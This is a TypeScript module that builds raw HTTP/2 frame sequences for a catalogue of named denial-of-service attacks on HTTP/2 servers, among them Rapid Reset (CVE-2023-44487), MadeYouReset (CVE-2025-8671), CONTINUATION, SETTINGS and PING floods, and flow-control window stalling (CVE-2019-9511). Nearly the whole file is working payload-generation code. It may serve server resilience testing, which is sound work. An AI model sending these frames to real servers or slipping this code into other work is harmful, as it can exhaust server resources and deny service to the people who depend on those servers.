/** What an attacker sends. */
export interface Attack {
  /** At first: preface, settings, and what the attack stands on. */
  readonly begin: Buffer;
  /** Then, as often as there is room. Without it nothing more: the attack is to wait. */
  readonly round?: (round: number) => Buffer;
}

/** So many frames, or pairs of them, go into one write. */
const PER_ROUND = 100;

const DATA = 0;
const HEADERS = 1;
const RST_STREAM = 3;
const SETTINGS = 4;
const PING = 6;
const WINDOW_UPDATE = 8;
const CONTINUATION = 9;
const PRIORITY_UPDATE = 16;
const SETTINGS_INITIAL_WINDOW_SIZE = 4;
const END_STREAM = 1;
const END_HEADERS = 4;
const ACK = 1;
const CANCEL = 8;

const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
const NOTHING = Buffer.alloc(0);
const GET = fieldsOf(0x82, '/');
const POST = fieldsOf(0x83, '/');
const LARGE = fieldsOf(0x82, '/large');
const U1 = Buffer.from('u=1');
/** A field of 1,000 bytes, again and again: a literal without a place in any table. */
const FIELDS = Buffer.concat([Buffer.of(0x00, 1, 0x61, 0x7f, 0xe9, 0x06), Buffer.alloc(1_000, 'x')]);

/** Attacks on servers of HTTP/2 by name. */
export const attacks: Readonly<Record<string, Attack>> = {
  /** CVE-2023-44487. */
  'rapid-reset': {
    begin: hello(),
    round: (round) => streams(round, (id) => [request(id, GET, END_STREAM), frame(RST_STREAM, 0, id, word(CANCEL))]),
  },
  /** CVE-2025-8671: the server is made to reset. */
  'made-you-reset': {
    begin: hello(),
    round: (round) => streams(round, (id) => [request(id, POST, 0), frame(WINDOW_UPDATE, 0, id, word(0))]),
  },
  continuation: { begin: Buffer.concat([hello(), halfHead()]), round: () => many(frame(CONTINUATION, 0, 1, FIELDS)) },
  'empty-continuation': {
    begin: Buffer.concat([hello(), halfHead()]),
    round: () => many(frame(CONTINUATION, 0, 1, NOTHING)),
  },
  settings: { begin: hello(), round: () => many(frame(SETTINGS, 0, 0, NOTHING)) },
  ping: { begin: hello(), round: () => many(frame(PING, 0, 0, Buffer.alloc(8))) },
  'empty-data': {
    begin: Buffer.concat([hello(), request(1, POST, 0)]),
    round: () => many(frame(DATA, 0, 1, NOTHING)),
  },
  /** RFC 9218 section 7.1. */
  'priority-update': {
    begin: hello(),
    round: (round) => streams(round, (id) => [frame(PRIORITY_UPDATE, 0, 0, Buffer.concat([word(id), U1]))]),
  },
  /** As many answers as a server allows, and no room for them. */
  'window-stall': {
    begin: Buffer.concat([
      hello([SETTINGS_INITIAL_WINDOW_SIZE, 0]),
      ...Array.from({ length: 100 }, (_, index) => request(2 * index + 1, LARGE, END_STREAM)),
    ]),
  },
  /** CVE-2019-9511: room for one byte each time. */
  'window-dribble': {
    begin: Buffer.concat([
      hello([SETTINGS_INITIAL_WINDOW_SIZE, 0]),
      ...Array.from({ length: 100 }, (_, index) => request(2 * index + 1, LARGE, END_STREAM)),
    ]),
    round: (round) => many(frame(WINDOW_UPDATE, 0, 2 * (round % 100) + 1, word(1))),
  },
};

function hello(...settings: readonly (readonly [identifier: number, value: number])[]): Buffer {
  const payload = Buffer.concat(settings.map(([identifier, value]) => Buffer.concat([short(identifier), word(value)])));
  return Buffer.concat([PREFACE, frame(SETTINGS, 0, 0, payload), frame(SETTINGS, ACK, 0, NOTHING)]);
}

/** GET or POST without entries of any table but the static one. */
function request(streamId: number, fields: Buffer, flags: number): Buffer {
  return frame(HEADERS, END_HEADERS | flags, streamId, fields);
}

function halfHead(): Buffer {
  return frame(HEADERS, 0, 1, GET);
}

function streams(round: number, framesOf: (streamId: number) => readonly Buffer[]): Buffer {
  const first = round * PER_ROUND;
  return Buffer.concat(Array.from({ length: PER_ROUND }, (_, index) => framesOf(2 * (first + index) + 1)).flat());
}

function many(one: Buffer): Buffer {
  return Buffer.concat(Array.from({ length: PER_ROUND }, () => one));
}

function fieldsOf(method: number, path: string): Buffer {
  const literal = (index: number, value: string): Buffer =>
    Buffer.concat([Buffer.of(index, value.length), Buffer.from(value)]);
  return Buffer.concat([Buffer.of(method, 0x86), literal(0x04, path), literal(0x01, 'localhost')]);
}

function frame(type: number, flags: number, streamId: number, payload: Buffer): Buffer {
  const header = Buffer.alloc(9);
  header.writeUIntBE(payload.length, 0, 3);
  header[3] = type;
  header[4] = flags;
  header.writeUInt32BE(streamId, 5);
  return Buffer.concat([header, payload]);
}

function word(value: number): Buffer {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32BE(value);
  return bytes;
}

function short(value: number): Buffer {
  const bytes = Buffer.alloc(2);
  bytes.writeUInt16BE(value);
  return bytes;
}
